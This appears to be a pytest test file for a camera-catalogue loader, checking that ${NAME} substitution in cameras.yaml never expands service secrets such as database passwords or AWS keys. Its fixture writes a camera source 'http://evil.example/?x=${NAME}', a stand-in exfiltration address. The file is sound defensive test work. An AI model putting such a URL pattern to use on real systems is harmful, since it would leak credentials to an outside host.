"""What `${NAME}` in a file of cameras may stand for: never a service's setting."""

from pathlib import Path

import pytest

from producer.catalogue.file.reload import Rejected, Reloaded, load
from producer.catalogue.file.variables import MAX_BYTES, variables
from producer.errors import InvalidCameraFile

ENVIRONMENT = {
    "AMQP_URL": "amqp://framefleet:hunter2@h/",
    "GATEWAY_TOKEN": "hunter2",
    "POSTGRES_PASSWORD": "hunter2",
    "AWS_SECRET_ACCESS_KEY": "hunter2",
    "GATE_PASSWORD": "hunter2",
    "CAMERAS": "hunter2",
    "CAMERA_GATE_PASSWORD": "p@ss/word",
}


@pytest.fixture
def cameras(tmp_path: Path) -> Path:
    return tmp_path / "cameras.yaml"


def written(cameras: Path, name: str) -> Path:
    cameras.write_text(f"cameras: [{{id: gate, source: 'http://evil.example/?x=${{{name}}}'}}]\n")
    return cameras


@pytest.mark.parametrize("name", sorted(ENVIRONMENT.keys() - {"CAMERA_GATE_PASSWORD"}))
def test_a_service_s_setting_goes_into_no_address(cameras: Path, name: str) -> None:
    file = load(written(cameras, name), ENVIRONMENT).current
    assert not file.cameras
    [problem] = file.problems
    assert "hunter2" not in f"{file!r} {problem.text}"
    assert f"call it CAMERA_{name}, or write {name}='...' into cameras.env" in problem.text


def test_a_name_for_cameras_comes_from_the_environment(cameras: Path) -> None:
    file = load(written(cameras, "CAMERA_GATE_PASSWORD"), ENVIRONMENT).current
    assert file.cameras["gate"].spec.target == "http://evil.example/?x=p%40ss%2Fword"


def test_any_name_comes_from_the_file_beside_and_goes_first(cameras: Path) -> None:
    cameras.with_name("cameras.env").write_text(
        "# passwords\nGATE_PASSWORD='a$b #c\"'\nexport CAMERA_GATE_PASSWORD=other # a comment\nEMPTY=\nALONE\n"
    )
    assert variables(cameras, ENVIRONMENT) == {
        "GATE_PASSWORD": 'a$b #c"',
        "CAMERA_GATE_PASSWORD": "other",
        "EMPTY": "",
    }


def test_the_environment_is_not_put_into_its_values(cameras: Path) -> None:
    cameras.with_name("cameras.env").write_text('A=${AMQP_URL}\nB="$AMQP_URL"\n')
    assert "hunter2" not in str(variables(cameras, ENVIRONMENT))


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"A='\xff'\n", "it is not UTF-8"),
        (b"#" * (MAX_BYTES + 1), "it has more than 1 MiB"),
        (None, "Is a directory"),
    ],
)
def test_one_that_cannot_be_read_is_told(cameras: Path, content: bytes | None, why: str) -> None:
    beside = cameras.with_name("cameras.env")
    if content is None:
        beside.mkdir()
    else:
        beside.write_bytes(content)
    with pytest.raises(InvalidCameraFile, match=f"cameras.env beside it cannot be read: {why}"):
        load(written(cameras, "A"), {})


def test_a_password_that_changed_is_taken_on(cameras: Path) -> None:
    beside = cameras.with_name("cameras.env")
    beside.write_text("A='old'\n")
    reloader = load(written(cameras, "A"), {})
    now = 0.0

    def poll(times: int) -> list[object]:
        nonlocal now
        news = []
        for _ in range(times):
            now += 1.0
            news.append(reloader.poll(now))
        return [each for each in news if each is not None]

    assert poll(4) == []
    beside.write_text("A='new'\n")
    [news] = poll(4)
    assert isinstance(news, Reloaded)
    assert news.changes.changed == ("gate",)
    assert news.file.cameras["gate"].spec.target.endswith("x=new")
    beside.write_bytes(b"\xff")
    [refused] = poll(4)
    assert isinstance(refused, Rejected)
    beside.unlink()  # the camera goes on with what it had
    recovered, news = poll(4)
    assert isinstance(recovered, Reloaded)
    assert isinstance(news, Reloaded)
    assert news.file.cameras["gate"].spec.target.endswith("x=new")
    assert "there is no A in cameras.env" in news.file.problems[0].text
